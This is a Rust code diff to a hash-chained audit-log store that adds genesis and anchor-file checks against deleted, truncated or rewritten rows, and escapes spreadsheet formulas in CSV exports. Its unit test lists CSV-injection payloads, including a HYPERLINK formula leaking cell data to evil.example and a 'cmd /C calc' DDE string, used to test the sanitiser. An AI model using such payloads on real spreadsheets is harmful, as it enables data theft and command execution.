@@ -26,6 +26,7 @@ use secrecy::{ExposeSecret, SecretSlice};
 use serde::{Deserialize, Deserializer, Serialize};
 use sha2::{Digest, Sha256};
 
+use super::anchor::{AnchorLine, Head, parse_anchors};
 use super::db::{DbRow, Tx, q};
 use super::rows::{from_micros, micros};
 use super::{DbError, SqlStore, store_err};
@@ -147,7 +148,7 @@ impl std::fmt::Display for VerifyReport {
 }
 
 /// The RFC 3339 form of a stored timestamp, as hashed and exported.
-fn rfc3339(t: DateTime<Utc>) -> String {
+pub(super) fn rfc3339(t: DateTime<Utc>) -> String {
     t.to_rfc3339_opts(SecondsFormat::Micros, true)
 }
 
@@ -202,15 +203,16 @@ fn actor_text(a: &Actor) -> String {
 }
 
 /// Appends `events` to the chain inside `tx` (which must hold the write lock), resolving
-/// `ReqRef::New` to `new_request`, and reseals the head when a key is given.
+/// `ReqRef::New` to `new_request`, and reseals the head when a key is given. Returns the new
+/// head (to anchor once the transaction commits), or `None` when there was nothing to append.
 pub(super) async fn append(
     tx: &mut Tx,
     events: &[AuditEvent],
     new_request: Option<RequestId>,
     key: Option<&SecretSlice<u8>>,
-) -> Result<(), StoreError> {
+) -> Result<Option<Head>, StoreError> {
     if events.is_empty() {
-        return Ok(());
+        return Ok(None);
     }
     if tx.is_pg() {
         // Several writers (instances) append concurrently on PostgreSQL: the lock, held until
@@ -233,9 +235,11 @@ pub(super) async fn append(
         ),
         None => (0, GENESIS.to_owned()),
     };
+    let starts_chain = seq == 0;
     // Every row goes in with one statement (a JSON array of rows, one bind): an engine
     // batch appends one row per action.
     let mut rows = Vec::with_capacity(events.len());
+    let mut first_hash = String::new();
     for e in events {
         seq += 1;
         let request = super::resolve_req(e.request, new_request)?;
@@ -260,6 +264,9 @@ pub(super) async fn append(
             &e.detail,
             &prev,
         );
+        if seq == 1 {
+            first_hash.clone_from(&hash);
+        }
         rows.push(serde_json::json!({
             "seq": seq,
             "at": at_us,
@@ -301,21 +308,36 @@ pub(super) async fn append(
     .execute(&mut *tx)
     .await
     .map_err(store_err)?;
+    if starts_chain {
+        // The genesis record remembers the chain's first row, so an emptied table does not
+        // pass for a fresh database. Once set, it is never changed.
+        q("UPDATE audit_genesis SET first_hash = ? WHERE id = 1 AND first_hash IS NULL")
+            .bind(&first_hash)
+            .execute(&mut *tx)
+            .await
+            .map_err(store_err)?;
+    }
+    let mut mac = None;
     if let Some(key) = key {
-        let mac = hex::encode(seal_mac(key, seq, &prev)?.finalize().into_bytes());
+        let m = hex::encode(seal_mac(key, seq, &prev)?.finalize().into_bytes());
         q(
             "INSERT INTO audit_seal (id, seq, hash, mac) VALUES (1, ?, ?, ?) \
              ON CONFLICT (id) DO UPDATE SET seq = excluded.seq, hash = excluded.hash, \
              mac = excluded.mac",
         )
         .bind(seq)
-        .bind(prev)
-        .bind(mac)
+        .bind(&prev)
+        .bind(&m)
         .execute(&mut *tx)
         .await
         .map_err(store_err)?;
+        mac = Some(m);
     }
-    Ok(())
+    Ok(Some(Head {
+        seq,
+        hash: prev,
+        mac,
+    }))
 }
 
 macro_rules! audit_cols {
@@ -766,7 +788,206 @@ async fn verify_packed(
     }
 }
 
+/// The genesis record's verdict on a chain of `rows` rows that verified: it must exist, and a
+/// chain that ever had a row 1 must still start with that row.
+async fn check_genesis(tx: &mut Tx, rows: u64) -> Result<Option<VerifyReport>, DbError> {
+    let Some(g) = q("SELECT created_at, first_hash FROM audit_genesis WHERE id = 1")
+        .fetch_optional(&mut *tx)
+        .await?
+    else {
+        return Ok(Some(VerifyReport::Broken {
+            seq: 0,
+            reason: "the genesis record written when the database was created is missing (it \
+                     was deleted)"
+                .into(),
+        }));
+    };
+    let created = rfc3339(from_micros(g.try_get("created_at")?)?);
+    let first: Option<String> = g.try_get("first_hash")?;
+    let broken = |reason: String| Ok(Some(VerifyReport::Broken { seq: 1, reason }));
+    match first {
+        None if rows == 0 => Ok(None),
+        None => broken(format!(
+            "the genesis record (database created at {created}) does not name the chain's \
+             first row although the chain has rows: it was cleared"
+        )),
+        Some(h) if rows == 0 => broken(format!(
+            "the database was created at {created} and its chain began with row 1 (hash \
+             {}…), but the chain is empty: the audit rows were deleted",
+            h.get(..12).unwrap_or(&h)
+        )),
+        Some(h) => {
+            let row1: String = q("SELECT hash FROM audit WHERE seq = 1")
+                .fetch_one(&mut *tx)
+                .await?
+                .try_get("hash")?;
+            if row1 == h {
+                Ok(None)
+            } else {
+                broken(format!(
+                    "row 1 is not the row the chain began with (the genesis record of the \
+                     database created at {created} names hash {}…): the chain was replaced",
+                    h.get(..12).unwrap_or(&h)
+                ))
+            }
+        }
+    }
+}
+
+/// What `audit verify --anchors` found in the anchor file, when the chain agrees with it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct AnchorSummary {
+    /// `seal` lines checked.
+    pub seals: usize,
+    /// The highest anchored row (0 when none).
+    pub highest: i64,
+}
+
 impl SqlStore {
+    /// [`SqlStore::verify_audit`], then the chain against the text of an anchor file (read
+    /// before the database, so every line in it was written after its rows committed): every
+    /// `genesis` line must name this database's creation, every `seal` line's row must exist
+    /// with that hash, and with a key its MAC must verify. A failure names the `seq`.
+    pub async fn verify_audit_anchored(
+        &self,
+        anchors: &str,
+    ) -> Result<(VerifyReport, AnchorSummary), DbError> {
+        let lines =
+            parse_anchors(anchors).map_err(|e| DbError::Anchor(format!("the anchor file: {e}")))?;
+        let report = self.verify_audit().await?;
+        let VerifyReport::Ok { rows, .. } = report else {
+            return Ok((
+                report,
+                AnchorSummary {
+                    seals: 0,
+                    highest: 0,
+                },
+            ));
+        };
+        let rows = i64::try_from(rows).unwrap_or(i64::MAX);
+        let mut tx = self.pool.begin_read().await?;
+        let created_at: i64 = q("SELECT created_at FROM audit_genesis WHERE id = 1")
+            .fetch_one(&mut tx)
+            .await?
+            .try_get("created_at")?;
+        let created = from_micros(created_at)?;
+        // (seq, hash, line), by seq then line.
+        let mut seals: Vec<(i64, &str, usize)> = Vec::new();
+        let broken = |seq: i64, reason: String| {
+            Ok((
+                VerifyReport::Broken { seq, reason },
+                AnchorSummary {
+                    seals: 0,
+                    highest: 0,
+                },
+            ))
+        };
+        for (n, line) in &lines {
+            match line {
+                AnchorLine::Genesis { created_at } => {
+                    let at = DateTime::parse_from_rfc3339(created_at)
+                        .map(|t| t.with_timezone(&Utc))
+                        .ok();
+                    if at != Some(created) {
+                        return broken(
+                            0,
+                            format!(
+                                "the anchor file (line {n}) was started for a database created \
+                                 at {created_at}, but this database was created at {}: it was \
+                                 replaced or re-created",
+                                rfc3339(created)
+                            ),
+                        );
+                    }
+                }
+                AnchorLine::Seal { seq, hash, mac } => {
+                    if let (Some(key), Some(mac)) = (self.audit_key.as_deref(), mac) {
+                        let ok = hex::decode(mac)
+                            .ok()
+                            .map(|tag| {
+                                seal_mac(key, *seq, hash).map(|m| m.verify_slice(&tag).is_ok())
+                            })
+                            .transpose()?
+                            .unwrap_or(false);
+                        if !ok {
+                            return broken(
+                                *seq,
+                                format!(
+                                    "the anchor file's line {n} for row {seq} carries a MAC \
+                                     that does not verify with the configured key (it was not \
+                                     written by Quartermaster with this key)"
+                                ),
+                            );
+                        }
+                    }
+                    seals.push((*seq, hash.as_str(), *n));
+                }
+            }
+        }
+        seals.sort_unstable();
+        if let Some(&(seq, _, n)) = seals.iter().rev().find(|s| s.0 > rows) {
+            return broken(
+                seq,
+                format!(
+                    "the anchor file (line {n}) records row {seq}, but the chain ends at row \
+                     {rows}: rows were removed from the end (truncation or a rollback)"
+                ),
+            );
+        }
+        // Walk the anchored rows' hashes in seq order, a page at a time.
+        let mut next = 0;
+        let mut after = 0i64;
+        while next < seals.len() {
+            let page =
+                q("SELECT seq, hash FROM audit WHERE seq > ? AND seq <= ? ORDER BY seq LIMIT ?")
+                    .bind(after.max(seals[next].0 - 1))
+                    .bind(seals[seals.len() - 1].0)
+                    .bind(PACKED_PAGE)
+                    .fetch_all(&mut tx)
+                    .await?;
+            if page.is_empty() {
+                break;
+            }
+            for row in &page {
+                let seq: i64 = row.try_get("seq")?;
+                let hash: String = row.try_get("hash")?;
+                if let Some(&(missing, _, n)) = seals.get(next).filter(|s| s.0 < seq) {
+                    return broken(
+                        missing,
+                        format!(
+                            "row {missing}, which the anchor file recorded (line {n}), is missing"
+                        ),
+                    );
+                }
+                while next < seals.len() && seals[next].0 == seq {
+                    let (_, anchored, n) = seals[next];
+                    if anchored != hash {
+                        return broken(
+                            seq,
+                            format!(
+                                "row {seq}'s hash differs from the one the anchor file recorded \
+                                 (line {n}): the chain was rolled back and rewritten from there"
+                            ),
+                        );
+                    }
+                    next += 1;
+                }
+                after = seq;
+            }
+        }
+        if let Some(&(missing, _, n)) = seals.get(next) {
+            return broken(
+                missing,
+                format!("row {missing}, which the anchor file recorded (line {n}), is missing"),
+            );
+        }
+        let summary = AnchorSummary {
+            seals: seals.len(),
+            highest: seals.last().map_or(0, |s| s.0),
+        };
+        Ok((report, summary))
+    }
+
     /// Checks the whole audit chain: every row's hash, its link to the previous row, gaps in
     /// `seq`, and — with an audit key — the HMAC seal over the head. Reads one snapshot.
     pub async fn verify_audit(&self) -> Result<VerifyReport, DbError> {
@@ -803,6 +1024,9 @@ impl SqlStore {
             ..
         } = chain;
         let last_seq = expected_seq - 1;
+        if let Some(report) = check_genesis(&mut tx, rows).await? {
+            return Ok(report);
+        }
 
         let Some(key) = self.audit_key.as_deref() else {
             return Ok(VerifyReport::Ok {
@@ -906,7 +1130,17 @@ const CSV_HEADER: [&str; 13] = [
     "prev_hash",
 ];
 
+/// Whether a spreadsheet would read the cell as a formula (OWASP "CSV injection"): it starts
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return.
+fn formula_like(s: &str) -> bool {
+    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
 fn csv_field(out: &mut impl Write, s: &str) -> std::io::Result<()> {
+    if formula_like(s) {
+        // OWASP's advice: prefix a single quote, so the cell is text, and quote the field.
+        return write!(out, "\"'{}\"", s.replace('"', "\"\""));
+    }
     if s.contains([',', '"', '\n', '\r']) {
         write!(out, "\"{}\"", s.replace('"', "\"\""))
     } else {
@@ -915,7 +1149,9 @@ fn csv_field(out: &mut impl Write, s: &str) -> std::io::Result<()> {
 }
 
 /// Writes RFC 4180 CSV: a header row, then one line per row (CRLF line ends); absent values
-/// are empty fields.
+/// are empty fields. A cell a spreadsheet would run as a formula (starting with `=`, `+`, `-`,
+/// `@`, tab or CR) is written as text with a leading `'`: the CSV is for reading, the JSONL
+/// export is the verbatim (hashable) form.
 pub fn write_csv(rows: &[AuditRecord], out: &mut impl Write) -> std::io::Result<()> {
     out.write_all(CSV_HEADER.join(",").as_bytes())?;
     out.write_all(b"\r\n")?;
@@ -1057,6 +1293,56 @@ mod tests {
             }
         }
         assert_eq!(n, tricky.len() * tricky.len());
+    }
+
+    /// A reason such as `=HYPERLINK(…)` reaches a spreadsheet as text, not as a formula.
+    #[test]
+    fn csv_cells_that_look_like_formulas_are_neutralised() {
+        let row = |detail: &str, actor: &str| AuditRecord {
+            seq: 1,
+            at: "2025-01-02T03:04:05.000006Z".into(),
+            actor: actor.into(),
+            actor_chat_id: Some("@everyone".into()),
+            action: "request.submitted".into(),
+            subject: None,
+            app: None,
+            request: Some(-3),
+            connector_action: None,
+            outcome: "ok".into(),
+            detail: detail.into(),
+            hash: "ab".into(),
+            prev_hash: GENESIS.into(),
+        };
+        let cases = [
+            (
+                "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+                "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\"",
+            ),
+            ("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""),
+            ("-2+3", "\"'-2+3\""),
+            ("@SUM(A1:A9)", "\"'@SUM(A1:A9)\""),
+            ("\t=1+1", "\"'\t=1+1\""),
+            ("\r=1+1", "\"'\r=1+1\""),
+        ];
+        for (detail, cell) in cases {
+            let mut out = Vec::new();
+            write_csv(&[row(detail, "alice")], &mut out).unwrap();
+            let csv = String::from_utf8(out).unwrap();
+            let line = csv.split_once("\r\n").unwrap().1;
+            assert!(
+                line.contains(&format!(",ok,{cell},ab,")),
+                "{detail:?}: {line}"
+            );
+            // The chat id starting with `@` and the negative request number too.
+            assert!(line.contains(",\"'@everyone\","), "{line}");
+            assert!(line.contains(",\"'-3\","), "{line}");
+        }
+        // Ordinary text is unchanged.
+        let mut out = Vec::new();
+        write_csv(&[row("needs it for Q3 - thanks", "bob")], &mut out).unwrap();
+        let csv = String::from_utf8(out).unwrap();
+        assert!(csv.contains(",bob,"), "{csv}");
+        assert!(csv.contains(",ok,needs it for Q3 - thanks,ab,"), "{csv}");
     }
 
     #[test]
